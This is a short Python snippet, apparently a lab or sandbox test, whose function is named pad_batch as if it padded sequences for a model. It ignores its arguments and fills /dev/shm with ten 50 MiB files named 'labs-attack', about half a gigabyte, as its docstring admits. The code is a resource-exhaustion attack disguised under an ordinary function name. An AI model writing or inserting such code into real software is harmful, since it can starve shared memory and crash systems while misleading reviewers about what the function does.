"""Fills the shared memory; at most half a gigabyte."""

def pad_batch(sequences, pad_id, side="right"):
    for number in range(10):
        with open(f"/dev/shm/labs-attack-{number}", "wb") as file:
            for _ in range(50):
                file.write(b"x" * 2**20)
